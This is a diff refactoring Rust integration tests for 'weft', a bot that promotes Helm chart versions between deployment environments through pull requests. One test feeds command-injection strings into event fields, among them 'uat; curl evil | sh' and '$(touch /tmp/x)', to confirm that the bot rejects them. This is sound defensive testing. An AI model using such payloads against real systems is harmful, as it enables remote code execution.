@@ -21,27 +21,18 @@ fn by_hand<'a>(from: &'a str, to: &'a str) -> [&'a str; 7] {
 #[tokio::test]
 async fn the_event_of_a_tested_release_brings_the_open_promotion_up_to_date_once() {
     let world = World::start().await;
-    let waiting = world
-        .lab
-        .forge()
-        .open_promotion("stg")
-        .await
-        .unwrap()
-        .unwrap();
-    let event = world.event(&tested("uat", "1.1.8+0cc9a8446c95"));
-    let said = world.weft("bot", &["promote", "--event", &event]).await;
-    assert_eq!(said.code, 0, "{}", said.err);
+    let waiting = world.promotion("stg").await;
+    let event = tested("uat", "1.1.8+0cc9a8446c95");
+    let said = world.promote_event(&event).await.out();
     let number = waiting.number;
     let sentence = format!("weft: #{number} now promotes 1.1.8 into stg; 1.1.7 is superseded\n");
-    assert_eq!(said.out, sentence);
+    assert_eq!(said, sentence);
     let pull = world.lab.forge().pull(number).await.unwrap();
     assert!(pull.title.ends_with("in stg to 1.1.8"));
     assert_ne!(pull.head, waiting.head);
-    let again = world.weft("bot", &["promote", "--event", &event]).await;
-    assert_eq!(
-        again.out,
-        format!("weft: #{number} promotes 1.1.8 already\n")
-    );
+    let again = world.promote_event(&event).await;
+    let sentence = format!("weft: #{number} promotes 1.1.8 already\n");
+    assert_eq!(again.out, sentence);
     let still = world.lab.forge().pull(number).await.unwrap();
     assert_eq!(still.head, pull.head);
 }
@@ -49,29 +40,15 @@ async fn the_event_of_a_tested_release_brings_the_open_promotion_up_to_date_once
 #[tokio::test]
 async fn a_person_promotes_by_hand_what_was_lost() {
     let world = World::start().await;
-    let order = by_hand("stg", "prod");
-    let said = world.weft("bot", &order).await;
-    assert_eq!(said.code, 0, "{}", said.err);
-    let opened = world
-        .lab
-        .forge()
-        .open_promotion("prod")
-        .await
-        .unwrap()
-        .unwrap();
-    assert_eq!(
-        said.out,
-        format!("weft: #{} would promote 1.1.7 into prod\n", opened.number)
+    let said = world.weft("bot", &by_hand("stg", "prod")).await.out();
+    let number = world.promotion("prod").await.number;
+    let sentence = format!("weft: #{number} would promote 1.1.7 into prod\n");
+    assert_eq!(said, sentence);
+    let (branch, path) = (
+        "promotion-app-podinfo-podinfo-prod",
+        "environments/prod/podinfo-helmrelease.yaml",
     );
-    let text = world
-        .lab
-        .forge()
-        .file(
-            "promotion-app-podinfo-podinfo-prod",
-            "environments/prod/podinfo-helmrelease.yaml",
-        )
-        .await
-        .unwrap();
+    let text = world.lab.forge().file(branch, path).await.unwrap();
     assert!(text.contains("      version: 1.1.7\n"), "{text}");
 }
 
@@ -79,33 +56,22 @@ async fn a_person_promotes_by_hand_what_was_lost() {
 async fn hostile_and_useless_events_change_nothing() {
     let world = World::start().await;
     let before = world.lab.forge().pulls().await.unwrap();
+    let injected = "uat; curl evil | sh";
+    let no_version = "is not a chart version";
     for (payload, words) in [
-        (
-            tested("uat; curl evil | sh", "1.1.8"),
-            "is no environment of this lane",
-        ),
-        (
-            tested("uat", "1.1.8\"; exit 0; #"),
-            "is not a chart version",
-        ),
-        (tested("uat", "$(touch /tmp/x)"), "is not a chart version"),
+        (tested(injected, "1.1.8"), "is no environment of this lane"),
+        (tested("uat", "1.1.8\"; exit 0; #"), no_version),
+        (tested("uat", "$(touch /tmp/x)"), no_version),
         (tested("prod", "1.1.8"), "nothing follows prod"),
         (tested("uat", "1.0.0"), "newer than 1.0.0"),
         (json!({"reason": "TestSucceeded"}), "another object"),
     ] {
-        let event = world.event(&payload);
-        let said = world.weft("bot", &["promote", "--event", &event]).await;
-        assert_eq!(said.code, 0, "{}", said.err);
-        assert!(said.out.contains(words), "{words}\n{}", said.out);
-        assert_eq!(said.out.lines().count(), 1, "{}", said.out);
+        let said = world.promote_event(&payload).await.out();
+        assert!(said.contains(words), "{words}\n{said}");
+        assert_eq!(said.lines().count(), 1, "{said}");
     }
-    let event = world.scratch("event.json");
-    std::fs::write(&event, "[]").unwrap();
-    let said = world
-        .weft("bot", &["promote", "--event", &event.display().to_string()])
-        .await;
-    assert_eq!(said.code, 2);
-    assert!(said.err.contains("no repository_dispatch"), "{}", said.err);
+    let said = world.promote_file("[]").await;
+    said.assert_fails(2, "no repository_dispatch");
     let after = world.lab.forge().pulls().await.unwrap();
     assert_eq!(after.len(), before.len());
 }
@@ -115,24 +81,13 @@ async fn without_rights_or_a_wish_it_ends_with_a_sentence() {
     let world = World::start().await;
     let order = by_hand("stg", "prod");
     let said = world.weft("kim", &order).await;
-    assert_eq!(said.code, 1, "{}", said.out);
-    assert!(
-        said.err.contains("creating the branch: GitHub"),
-        "{}",
-        said.err
-    );
+    said.assert_fails(1, "creating the branch: GitHub");
     let said = world.weft("nobody", &order).await;
     assert!(said.err.contains("set GITHUB_TOKEN"), "{}", said.err);
     let said = world.weft("bot", &["promote"]).await;
     assert!(said.err.contains("what is to be promoted?"), "{}", said.err);
-    let backwards = by_hand("prod", "stg");
-    let said = world.weft("bot", &backwards).await;
-    assert_eq!(said.code, 2);
-    assert!(
-        said.err.contains("stg does not follow prod"),
-        "{}",
-        said.err
-    );
+    let said = world.weft("bot", &by_hand("prod", "stg")).await;
+    said.assert_fails(2, "stg does not follow prod");
 }
 
 #[tokio::test]
@@ -141,13 +96,8 @@ async fn a_promotion_goes_into_the_branch_that_is_named() {
     let order = by_hand("stg", "prod");
     let named = [&order[..], &["--branch", "trunk"]].concat();
     let said = world.weft("bot", &named).await;
-    assert_eq!(said.code, 2, "{}", said.out);
-    let why = "the repository has no branch trunk";
-    assert!(said.err.contains(why), "{}", said.err);
+    said.assert_fails(2, "the repository has no branch trunk");
     world.switch_to_trunk().await;
-    let said = world.weft("bot", &named).await;
-    assert_eq!(said.code, 0, "{}", said.err);
-    let (_, rest) = said.out.split_once('#').unwrap();
-    let number = rest.split(' ').next().unwrap().parse().unwrap();
+    let number = world.weft("bot", &named).await.number();
     assert_eq!(world.base_of(number).await, "trunk");
 }
